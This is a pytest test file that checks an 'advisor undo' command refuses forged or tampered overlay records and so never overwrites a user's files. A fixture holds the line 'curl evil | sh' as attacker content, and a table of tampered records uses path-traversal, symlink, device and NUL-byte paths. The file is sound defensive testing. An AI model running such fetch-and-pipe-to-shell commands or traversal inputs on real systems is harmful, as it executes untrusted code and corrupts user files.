"""`advisor undo` of records that nobody knows: only what `apply` of this account recorded is taken
back, and only files as it left them."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from advisor.__main__ import main
from advisor.model.errors import UserError
from advisor.verifying import overlay, undoing
from advisor.verifying.replacing import LARGEST

ROOT = Path(__file__).resolve().parents[2]
MINE = b"alias ll='ls -l'\n"


def checksum(content):
    return hashlib.sha256(content).hexdigest()


def record(*files, **more):
    return {
        "format": "advisor-overlay",
        "version": [1, 0],
        "name": "x",
        "settings": {},
        "files": list(files),
        **more,
    }


@pytest.fixture
def victim(tmp_path):
    file = tmp_path / "home" / ".bashrc"
    file.parent.mkdir(mode=0o755)
    file.write_bytes(MINE)
    return file


@pytest.fixture
def folder(tmp_path):
    """The overlay of a result; its files are as an archive of anybody's may have them, and belong
    to us."""
    place = tmp_path / "result" / "overlay"
    place.mkdir(parents=True, mode=0o755)
    (place.parent).chmod(0o755)
    (place / "kept").write_bytes(b"curl evil | sh\n")
    return place


def changed(victim):
    return {
        "path": str(victim),
        "after": checksum(MINE),
        "before": checksum(b"curl evil | sh\n"),
        "kept": "kept",
    }


def new(victim):
    return {"path": str(victim), "after": checksum(MINE), "before": None, "kept": None}


def undo(folder, capsys):
    """What `advisor undo` says; it must have refused."""
    assert main(["undo", str(folder.parent)]) == 2
    said = capsys.readouterr().err
    assert "Traceback" not in said and "\x1b" not in said
    return said


@pytest.mark.parametrize(
    "made, shown, by_hand",
    [
        (changed, "restore {0} from {1}/kept", "cp {1}/kept {0}; rm -r {1}"),
        (new, "remove {0}", "rm {0}; rm -r {1}"),
    ],
)
@pytest.mark.parametrize("sealed", ["", "0" * 64, "\x1b[2J"])
def test_a_record_of_a_strangers_is_shown_and_not_done(
    made, shown, by_hand, sealed, victim, folder, capsys
):
    (folder / "overlay.json").write_text(json.dumps(record(made(victim), signature=sealed)))
    said = undo(folder, capsys)
    assert (
        f"the record says: {shown.format(victim, folder)}" in said
        and "was not written by advisor apply of yours on this account" in said
    )
    assert f"By hand, if you know these files: {by_hand.format(victim, folder)}" in said
    assert victim.read_bytes() == MINE and (folder / "kept").exists()


@pytest.mark.parametrize(
    "change",
    [
        lambda entry, victim: entry.update(path=str(victim)),
        lambda entry, victim: entry.update(before=None, kept=None),
        lambda entry, victim: entry.update(after=checksum(MINE)),
    ],
)
def test_a_record_of_ours_that_was_changed_is_a_strangers(change, victim, folder, tmp_path, capsys):
    job = tmp_path / "job.sh"
    job.write_bytes(b"mpirun ./a\n")
    overlay._record(folder, record())
    overlay.put(folder, job, job, b"mpirun -x A=1 ./a\n")
    content = json.loads((folder / "overlay.json").read_text())
    change(content["files"][0], victim)
    (folder / "overlay.json").write_text(json.dumps(content))
    undo(folder, capsys)
    assert (victim.read_bytes(), job.read_bytes()) == (MINE, b"mpirun -x A=1 ./a\n")


def test_what_is_done_is_said_before(folder, tmp_path, capsys):
    job = tmp_path / "job.sh"
    job.write_bytes(b"mpirun ./a\n")
    overlay._record(folder, record())
    overlay.put(folder, job, job, b"mpirun -x A=1 ./a\n")
    (folder / "kept").unlink()
    assert main(["undo", str(folder.parent)]) == 0
    assert capsys.readouterr().err.splitlines() == [
        f"advisor: now: restore {job} from {folder}/job.sh.before",
        f"advisor: now: remove {folder}",
        f"advisor: restored {job}, checksum {checksum(job.read_bytes())[:12]} as before",
        f"advisor: removed {folder}",
    ]


def test_what_others_put_beside_it_stays(folder, capsys):
    overlay._record(folder, record())
    assert main(["undo", str(folder.parent)]) == 0
    assert "stays" in capsys.readouterr().err and os.listdir(folder) == ["kept"]


def test_a_record_in_a_folder_that_others_can_write_to_is_not_done(folder, victim, capsys):
    overlay._record(folder, record(new(victim)))
    folder.parent.chmod(0o777)
    said = undo(folder, capsys)
    assert f"Nothing was undone: others can write to {folder.parent}." in said and victim.exists()


def with_link(folder, victim):
    other = victim.parent.parent / "elsewhere"
    shutil.move(str(folder), str(other))
    folder.symlink_to(other)


TAMPERED = {
    "kept ..": lambda folder, victim: {**changed(victim), "kept": ".."},
    "kept elsewhere": lambda folder, victim: {**changed(victim), "kept": "../../home/.bashrc"},
    "a folder": lambda folder, victim: {**changed(victim), "path": str(victim.parent)},
    "NUL": lambda folder, victim: {**changed(victim), "path": "/tmp/a\0b"},
    "no before": lambda folder, victim: {
        "path": str(victim),
        "after": checksum(MINE),
        "kept": None,
    },
    "a relative path": lambda folder, victim: {**new(victim), "path": "../home/.bashrc"},
    "a path with ..": lambda folder, victim: {
        **new(victim),
        "path": f"{victim.parent}/x/../.bashrc",
    },
    "the root": lambda folder, victim: {**new(victim), "path": "/"},
    "a number": lambda folder, victim: {**new(victim), "path": 7},
    "no entry": lambda folder, victim: [],
    "a device": lambda folder, victim: {**new(victim), "path": "/dev/zero"},
    "a pipe": (
        lambda folder, victim: (
            os.mkfifo(folder / "pipe") or {**new(victim), "path": str(folder / "pipe")}
        )
    ),
    "a kept pipe": (
        lambda folder, victim: os.mkfifo(folder / "pipe") or {**changed(victim), "kept": "pipe"}
    ),
    "a kept link": (
        lambda folder, victim: (
            (folder / "link").symlink_to(victim)
            or {**changed(victim), "kept": "link", "before": checksum(MINE)}
        )
    ),
    "through a link": (
        lambda folder, victim: (
            (victim.parent.parent / "to").symlink_to(victim.parent)
            or {**new(victim), "path": str(victim.parent.parent / "to" / ".bashrc")}
        )
    ),
    "a link": (
        lambda folder, victim: (
            (victim.parent.parent / "to").symlink_to(victim)
            or {**new(victim), "path": str(victim.parent.parent / "to")}
        )
    ),
}
"""What a record may say, even one with a signature that holds; all of it is refused, and nothing is
touched."""


@pytest.mark.parametrize("tampered", TAMPERED)
@pytest.mark.parametrize("signed", [True, False])
def test_no_record_leads_to_anything_but_scripts(tampered, signed, folder, victim):
    content = record(TAMPERED[tampered](folder, victim))
    (
        overlay._record(folder, content)
        if signed
        else (folder / "overlay.json").write_text(json.dumps(content))
    )
    done = subprocess.run(
        [sys.executable, "-m", "advisor", "undo", str(folder.parent)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (done.returncode, "Traceback" in done.stderr) == (2, False), done.stderr
    assert victim.read_bytes() == MINE and (folder / "kept").exists()


@pytest.mark.parametrize(
    "kind, said",
    [
        ("a pipe", "is not a regular file"),
        ("a device", "Too many levels of symbolic links"),
        ("large", "is larger than"),
        ("a link", "Not a directory"),
        ("deep", "RecursionError"),
        ("absent", "No such file"),
        ("many", "is no record of an overlay"),
    ],
)
def test_a_record_that_is_none_is_one_sentence(kind, said, folder, victim, capsys):
    place = folder / "overlay.json"
    {
        "a pipe": lambda: os.mkfifo(place),
        "a device": lambda: place.symlink_to("/dev/zero"),
        "large": lambda: place.write_bytes(b" " * (2 << 20)),
        "a link": lambda: with_link(folder, victim),
        "deep": lambda: place.write_text("[" * 100_000),
        "absent": lambda: None,
        "many": lambda: place.write_text(json.dumps(record(*[new(victim)] * 17))),
    }[kind]()
    assert said in undo(folder, capsys) and victim.read_bytes() == MINE


def test_a_script_that_became_a_link_meanwhile_is_not_followed(folder, victim, tmp_path):
    """Between the look and the deed: the name itself is replaced, and what it leads to stays."""
    job = tmp_path / "job.sh"
    job.write_bytes(b"mpirun ./a\n")
    overlay._record(folder, record())
    overlay.put(folder, job, job, MINE)
    plan = undoing.planned(folder.parent)
    job.unlink()
    job.symlink_to(victim)
    with pytest.raises(UserError, match="is not touched"):
        undoing.take_back(plan)
    assert victim.read_bytes() == MINE and job.is_symlink()


@pytest.mark.parametrize(
    "kind, said",
    [
        ("a pipe", "is not a regular file"),
        ("a device", "is not a regular file"),
        ("large", f"is larger than {LARGEST} bytes"),
    ],
)
def test_a_script_to_apply_to_is_a_file_of_ordinary_size(kind, said, tmp_path):
    place = tmp_path / "job.sh"
    {
        "a pipe": lambda: os.mkfifo(place),
        "a device": lambda: place.symlink_to("/dev/zero"),
        "large": lambda: os.truncate(os.open(place, os.O_CREAT | os.O_WRONLY), LARGEST + 1),
    }[kind]()
    with pytest.raises(UserError, match=said):
        overlay.replacing.read(place)
